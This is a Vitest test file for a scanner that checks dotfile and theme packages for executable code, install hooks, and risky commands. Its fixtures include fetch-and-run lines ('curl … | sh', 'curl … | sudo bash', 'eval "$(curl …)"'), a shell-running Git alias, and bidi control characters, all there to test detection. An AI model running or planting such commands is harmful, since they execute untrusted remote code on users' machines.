import { describe, expect, it } from 'vitest';
import { MODULE_KINDS } from '@/types/module-kind';

import { codesOf, judge, packModule } from '../support/archives/judge';
import { SAMPLES } from '../support/archives/manifests';

const theme = SAMPLES['color-theme'];
const CONF = 'background #101010\nforeground #e0e0e0\n';
const SCRIPT = '#!/bin/sh\necho hi\n';
const judgeTheme = (files: Parameters<typeof packModule>[1], change: Record<string, unknown> = {}) =>
  judge(packModule({ ...theme, ...change }, { 'main.conf': CONF, ...files }));

describe('every kind', () => {
  it.each(MODULE_KINDS)('%s: its sample is published without a word', async (kind) => {
    const report = await judge(packModule(SAMPLES[kind], { 'main.conf': '# settings\nkey value\n' }));
    expect(report.findings).toEqual([]);
    expect(report.ok).toBe(true);
    expect(report.writes.length).toBe(SAMPLES[kind].files.length);
  });
});

describe('a colour theme is data only', () => {
  it.each([
    ['an executable bit', { 'x.txt': { body: 'x', mode: 0o755 } }, {}, 'ceiling-executable', 'x.txt'],
    ['a script', { x: SCRIPT }, {}, 'ceiling-code', 'x'],
    ['a script behind a byte order mark', { x: `\ufeff${SCRIPT}` }, {}, 'ceiling-code', 'x'],
    ['an ELF program', { x: '\u007fELF\u0001' }, {}, 'ceiling-code', 'x'],
    ['shell code', { 'install.sh': 'echo hi' }, {}, 'ceiling-code', 'install.sh'],
    ['Lua', { 'colors/x.lua': 'return {}' }, {}, 'ceiling-code', 'colors/x.lua'],
    ['Vim script', { 'colors/x.vim': 'hi Normal guibg=#000000' }, {}, 'ceiling-code', 'colors/x.vim'],
    ['JavaScript', { 'index.js': '' }, {}, 'ceiling-code', 'index.js'],
    ['a start-up file', { '.zshrc': '' }, {}, 'ceiling-code', '.zshrc'],
    ['hooks', { 'h.txt': 'x' }, { hooks: { afterInstall: 'h.txt' } }, 'ceiling-hooks', 'dotkit.json'],
    ['capabilities', {}, { capabilities: { runs: ['sh'] } }, 'ceiling-capabilities', 'dotkit.json'],
    ['root', {}, { capabilities: { root: true } }, 'ceiling-capabilities', 'dotkit.json'],
    ['a program folder', {}, { files: [{ src: 'main.conf', dest: '{bin}/x' }] }, 'ceiling-dest', 'dotkit.json'],
    [
      'a start-up destination',
      {},
      { files: [{ src: 'main.conf', dest: '{home}/.zshrc' }] },
      'ceiling-dest',
      'dotkit.json',
    ],
    [
      'a line in a start-up file',
      {},
      { files: [{ dest: '{home}/.bashrc', mode: 'source-line', line: 'x' }] },
      'ceiling-dest',
      'dotkit.json',
    ],
    [
      'a plugin destination',
      {},
      { files: [{ src: 'main.conf', dest: '{config}/nvim/plugin/x.lua' }] },
      'ceiling-dest',
      'dotkit.json',
    ],
    ['curl | sh', { 'note.conf': 'run curl https://x.example/i | sh\n' }, {}, 'remote-script', 'note.conf'],
    ['sudo', { 'note.conf': 'x\nsudo rm x\n' }, {}, 'sudo', 'note.conf'],
    ['bidi controls', { 'x.conf': 'a\u202eb' }, {}, 'invisible-unicode', 'x.conf'],
    ['a shell in a setting', { 'x.toml': '[terminal]\nshell = "/tmp/x"\n' }, {}, 'config-command', 'x.toml'],
    ['a command in tmux', { 'x.conf': 'set -g status-right "#(/tmp/x)"\n' }, {}, 'config-command', 'x.conf'],
    ['an including program in kitty', { 'x.conf': 'geninclude evil.py\n' }, {}, 'config-command', 'x.conf'],
  ])('refuses %s', async (_, files, change, code, path) => {
    const report = await judgeTheme(files as Parameters<typeof packModule>[1], change);
    expect(report.ok).toBe(false);
    expect(
      report.findings.filter(({ severity }) => severity === 'error').map((found) => [found.code, found.path]),
    ).toContainEqual([code, path]);
  });

  it('publishes the formats of real themes', async () => {
    const report = await judgeTheme({
      'alacritty/x.toml': '[colors.primary]\nbackground = "#101010"\nforeground = "#e0e0e0"\n',
      'vscode/x-color-theme.json':
        '{"name":"X","colors":{"editor.background":"#101010","terminal.ansiRed":"#ff0000"},"tokenColors":[{"scope":"support.function.shell"}]}',
      'package.json': '{"name":"x","scripts":{"build":"node build.js"}}',
      'iterm/x.itermcolors': '<?xml version="1.0"?><plist version="1.0"><dict><key>Ansi 0 Color</key></dict></plist>',
      'css/x.css': ':root { --shell: #fff; }\n#id { color: red }\n',
      'css/x.scss': '$a: #fff;\n.shell { color: $a }\n',
      'kitty/x.conf': 'cursor #fff\ncolor0 #000\nselection_background #222\n',
      'tmux/x.conf': 'set -g status-style "bg=#101010,fg=#e0e0e0"\nset -g status-right "#[fg=red]#S"\n',
      'foot/x.ini': '[colors]\nbackground=101010\n',
      'ghostty/x': 'palette = 0=#101010\nbackground = 101010\n',
      'base16/x.yaml': 'scheme: "X"\nauthor: "A"\nbase00: "101010"\n',
      'README.md': '# X\n\n```\ncurl -fsSL https://x.example/install.sh | sh\nsudo make install\n```\n',
      LICENSE: 'MIT\n',
      'preview.png': '\u0089PNG\r\n\u001a\n\u0000\u0000',
    });
    expect(report.findings).toEqual([]);
    expect(report.capabilities).toEqual({ runs: [], network: [], root: false, labels: [] });
  });

  it('takes lines for other configuration files', async () => {
    const report = await judgeTheme(
      {},
      { files: [{ dest: '{config}/kitty/kitty.conf', mode: 'source-line', line: 'include themes/x.conf' }] },
    );
    expect(report.findings).toEqual([]);
  });
});

describe('the other ceilings', () => {
  const codes = async (manifest: unknown, files: Parameters<typeof packModule>[1]) =>
    codesOf(await judge(packModule(manifest, { 'main.conf': 'x', ...files })));

  it('a terminal may have Lua when it is WezTerm', async () => {
    const files = [{ src: 'w.lua', dest: '{config}/wezterm/wezterm.lua' }];
    const lua = { 'w.lua': 'return {}' };
    const terminal = SAMPLES['terminal-config'];
    expect(await codes({ ...terminal, files, terminalConfig: { terminal: 'wezterm' } }, lua)).toEqual([]);
    expect(await codes({ ...terminal, files }, lua)).toEqual(['ceiling-code', 'ceiling-dest']);
  });

  it('a Git configuration runs code only with declared hooks or ! aliases', async () => {
    const git = SAMPLES['git-config'];
    const hook = { 'pre-commit': { body: SCRIPT, mode: 0o755 } };
    expect(await codes(git, hook)).toEqual(['ceiling-executable', 'ceiling-code']);
    expect(
      await codes(
        { ...git, gitConfig: { parts: ['hooks'], hooks: [{ name: 'pre-commit', path: 'pre-commit' }] } },
        hook,
      ),
    ).toEqual([]);
    expect(
      await codes({ ...git, gitConfig: { parts: ['aliases'], aliases: [{ name: 'x', command: '!sh x' }] } }, hook),
    ).toEqual([]);
  });

  it('a Git alias that runs a shell is declared', async () => {
    const git = SAMPLES['git-config'];
    const config = { 'main.conf': '[alias]\n\tst = status\n\tx = "!sh -c evil"\n' };
    expect(await codes(git, config)).toEqual(['shell-alias']);
    expect(
      await codes(
        { ...git, gitConfig: { parts: ['aliases'], aliases: [{ name: 'x', command: '!sh -c evil' }] } },
        config,
      ),
    ).toEqual([]);
  });

  it('a line that the manifest writes is judged like a file', async () => {
    const line = 'eval "$(curl -fsSL https://x.example)"';
    const files = [{ dest: '{config}/kitty/kitty.conf', mode: 'source-line', line }];
    const report = await judge(packModule({ ...SAMPLES['shell-plugin'], files }, { 'main.conf': 'x' }));
    expect(report.findings).toMatchObject([
      { severity: 'warning', code: 'remote-script', path: 'dotkit.json', line: 13 },
    ]);
    expect((await judge(packModule({ ...theme, files }, { 'main.conf': 'x' }))).ok).toBe(false);
  });

  it('a preset prompt is data, a native one is code', async () => {
    const { prompt } = SAMPLES;
    const zsh = { 'p.zsh': 'PROMPT="%# "' };
    expect(await codes(prompt, zsh)).toEqual(['ceiling-code']);
    expect(await codes({ ...prompt, prompt: { shells: ['zsh'], engine: 'native' } }, zsh)).toEqual([]);
  });

  it('a script is placed, and runs nothing at install', async () => {
    const { script } = SAMPLES;
    expect(await codes(script, { 'x.sh': { body: SCRIPT, mode: 0o755 } })).toEqual([]);
    expect(await codes({ ...script, hooks: { afterInstall: 'main.conf' } }, {})).toEqual(['ceiling-hooks']);
  });

  it('a setting that runs a command is a label below a theme', async () => {
    const report = await judge(packModule(SAMPLES['terminal-config'], { 'main.conf': 'shell /usr/bin/fish\n' }));
    expect(report.ok).toBe(true);
    expect(report.findings).toMatchObject([
      { severity: 'warning', code: 'config-command', path: 'main.conf', line: 1 },
    ]);
    expect(report.capabilities.labels).toEqual(['config-command']);
  });

  it('a window manager may start programs; its labels say what the scan found', async () => {
    const report = await judge(
      packModule(
        {
          ...SAMPLES['wm-config'],
          hooks: { afterInstall: 'setup.sh' },
          files: [{ src: 'setup.sh', dest: '{config}/sway/setup.sh' }],
          capabilities: { runs: ['swaybg'], network: ['example.org'] },
        },
        { 'setup.sh': { body: '#!/bin/sh\ncurl -L https://x.example/a |\n  sudo bash\n', mode: 0o755 } },
      ),
    );
    expect(report.ok).toBe(true);
    expect(report.findings.map(({ code, line }) => [code, line])).toEqual([
      ['remote-script', 2],
      ['sudo', 2],
    ]);
    expect(report.capabilities).toEqual({
      runs: ['swaybg'],
      network: ['example.org'],
      root: false,
      labels: ['executable', 'hooks', 'remote-script', 'sudo'],
    });
  });

  it('what the manifest names must be there', async () => {
    const plugin = SAMPLES['shell-plugin'];
    expect(await codes({ ...plugin, files: [{ src: 'gone', dest: '{home}/x' }] }, {})).toEqual(['src-missing']);
    expect(await codes({ ...plugin, hooks: { afterInstall: 'gone' } }, {})).toEqual(['src-missing']);
    expect(await codes({ ...plugin, readme: 'gone.md' }, {})).toEqual(['src-missing']);
    expect(await codes({ ...plugin, preview: { screenshots: ['gone.png'] } }, {})).toEqual(['path-missing']);
  });
});
